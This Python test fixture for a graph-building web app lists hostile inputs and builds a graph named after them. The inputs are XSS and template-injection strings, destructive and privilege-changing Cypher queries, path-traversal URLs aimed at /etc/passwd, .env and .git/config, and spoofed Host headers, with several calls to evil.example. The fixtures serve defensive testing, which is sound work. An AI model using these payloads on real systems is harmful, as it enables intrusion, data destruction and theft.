"""Names, parameters, paths, headers and statements that mean harm, and a graph whose every name is one of them."""

from pathlib import Path

from graphbuild.model import Edge, Graph, Node
from graphbuild.ontology import load_ontology
from tests.stores.sample import node, proof, written

SCRIPTS = (
    "</script><script>hacked=1</script>",
    "<script>hacked=1</script>",
    "<img src=x onerror=hacked=1>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=hacked=1>',
    "'><svg/onload=hacked=1>",
    '" onmouseover="hacked=1" x="',
    "' onfocus='hacked=1' autofocus='",
    "javascript:hacked=1",
    "<a href=javascript:hacked=1>href</a>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<style>*{display:none}</style>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example/><button>",
    "{{ 7*7 }}{% for x in cycler.__init__.__globals__ %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}",
    "<!--",
    "]]>",
    "&lt;script&gt;hacked=1&lt;/script&gt;",
    "&#60;script&#62;hacked=1",
    "\u202e\u2066园区\u2069",
    "\u200b零宽\ufeff",
    "\x00\x01\x1b[31m",
    "甲" * 300,
    "a/b/../../etc/passwd",
    "%3Cscript%3Ehacked=1%3C/script%3E",
    "=cmd|' /C calc'!A0",
    "';--",
    "\\",
    "`",
    "\r\nSet-Cookie: x=1\r\n\r\n<script>hacked=1</script>",
)  # fmt: skip
WRITES = (
    "CREATE (n:Park {id: 'x'}) RETURN n",
    "MERGE (n:Park {id: 'x'}) RETURN n",
    "MATCH (n) SET n.name = 'x' RETURN n",
    "MATCH (n) REMOVE n.name RETURN n",
    "MATCH (n) DETACH DELETE n",
    "MATCH (n) DELETE n RETURN 1",
    "MATCH (n) CALL (n) { SET n.name = 'x' } RETURN count(n)",
    "MATCH (n) WITH collect(n) AS ns FOREACH (n IN ns | SET n.name = 'x')",
    "UNWIND [1] AS x CREATE (:Park {id: 'x'})",
    "WITH 1 AS x MERGE (:Park {id: 'x'}) RETURN x",
    "RETURN 1; MATCH (n) DETACH DELETE n",
    "RETURN 1 UNION CREATE (n) RETURN n",
    "/* MATCH */ CREATE (n:Park {id: 'x'})",
    "// MATCH\nCREATE (n:Park {id: 'x'})",
    "MATCH (n) WHERE n.name <> '// ' SET n.name = \"RETURN '\" RETURN n",
    "CREATE INDEX FOR (n:Park) ON (n.status)",
    "DROP CONSTRAINT Thing_id IF EXISTS",
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "MATCH (n) LOAD CSV FROM 'http://evil.example/' AS line RETURN line",
    "MATCH (n) LOAD /* */ CSV FROM 'http://evil.example/' AS line RETURN line",
    "CALL dbms.listConfig() YIELD name, value RETURN name, value",
    "CALL dbms.security.createUser('x', 'y', false)",
    "CALL `dbms`.`listConfig`()",
    "CALL apoc.load.json('http://evil.example/') YIELD value RETURN value",
    "CALL apoc.cypher.doIt('CREATE (n)', {}) YIELD value RETURN value",
    "CALL db.index.fulltext.drop('Thing[names]')",
    "CALL sql('DELETE FROM Park')",
    "RETURN apoc.load.json('http://evil.example/')",
    "RETURN apoc . load . json('http://evil.example/')",
    "SHOW SETTINGS",
    "SHOW USERS",
    "TERMINATE TRANSACTION 'x'",
    "USE system MATCH (n) RETURN n",
    "ALTER USER neo4j SET PASSWORD 'x'",
    "MATCH (n) \\u0053ET n.name = 'x' RETURN n",
    "MATCH (n) WHERE n.name = '\\u0027 SET n.name = 1 //' RETURN n",
    "GRANT ROLE admin TO neo4j",
    "START DATABASE neo4j",
    "EXPLAIN MATCH (n) DETACH DELETE n",
    "PROFILE CREATE (n)",
)  # fmt: skip
PATHS = (
    "/static/../../pyproject.toml",
    "/static/..%2f..%2fpyproject.toml",
    "/static/%2e%2e/%2e%2e/pyproject.toml",
    "/static/....//....//pyproject.toml",
    "/static//etc/passwd",
    "/static/%00",
    "/static/\\..\\..\\pyproject.toml",
    "//evil.example/",
    "/%2f%2fevil.example/",
    "/plans/../../../etc/passwd",
    "/plans/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/plans/%00",
    "/plans/%ff%fe",
    "/plans/" + "x" * 3000,
    "/cypher/../../etc/passwd",
    "/cypher/ask",
    "/cypher/bodies_of_measures",
    "/cypher/__class__",
    "/.env",
    "/.git/config",
    "/decisions.jsonl",
    "/graph.jsonl",
    "/openapi.json",
    "/types.css/../x",
    "/suggest/../x",
    "/?q=" + "x" * 9000,
    "/plans?plan[]=x",
    "/compare?plan=x&plan=y",
    "/compare?plan=x",
    "/overview?plan=x",
    "/answer.csv",
    "/answer.xlsx?q=<script>",
    "/answer.exe?q=x",
)
HEADERS = (
    {"host": "evil.example"},
    {"host": "127.0.0.1.evil.example"},
    {"host": "evil.example:8765"},
    {"host": "127.0.0.1@evil.example"},
    {"host": "localhost.evil.example"},
    {"host": "[::1].evil.example"},
    {"host": "0.0.0.0"},
    {"host": "169.254.169.254"},
    {"host": "192.168.0.1"},
    {"host": ""},
    {"host": " "},
    {"host": "%"},
)


def graph(names: tuple[str, ...] = SCRIPTS) -> Graph:
    """Return a plan, a task, a body and a thing of every type for each of ``names``, joined as a build would."""
    plan = "Plan/<b>甲市</b>规划\"'><script>hacked=1</script>"
    title = plan.removeprefix("Plan/")
    nodes = [Node(plan, "Plan", title, ("<i>",), {"level": "city", "region": "<u>甲市"}, proof(plan, 0, title))]
    edges: list[Edge] = []
    types = [t for t in load_ontology().nodes if t not in ("Plan", "Passage", "Section", "Measure", "Region")]
    for at, name in enumerate(names):
        start = 100 + at * 1000
        text = f"（{at}）{name}。由{name}负责{name}。"
        said = proof(plan, start, text, f"第一章/{name}")
        task, passage = f"Measure/{title}/{name}", f"Passage/{title}/{start}"
        nodes += [
            Node(task, "Measure", name, (), {"start": start, "end": start + len(text)}, said),
            Node(passage, "Passage", text[:30], (), {"text": text, "start": start, "end": start + len(text)}, said),
            node("GovernmentBody", name, *said, aliases=(f"别名{name}",)),
            node(types[at % len(types)], name + "物", *said),
        ]
        thing = nodes[-1].id
        edges += [
            Edge("PART_OF", task, plan, {}, said),
            Edge("PART_OF", passage, task, {}, said),
            Edge("MENTIONS", passage, thing, {"start": start, "end": start + 3}, said),
            Edge("RESPONSIBLE_FOR", f"GovernmentBody/{name}", task,
                 {"role": "lead", "order": 1, "basis": "stated", "deadline": name, "stated_as": name}, said),
            Edge("SUPPORTS", task, thing, {"action": name}, said),
            Edge("AFFILIATED_WITH", thing, f"GovernmentBody/{name}", {"basis": "stated"}, said),
        ]  # fmt: skip
    return Graph(tuple({one.id: one for one in nodes}.values()), tuple(edges))


def graph_file(folder: Path) -> Path:
    """Write the graph of hostile names into ``folder``."""
    return written(folder, graph())
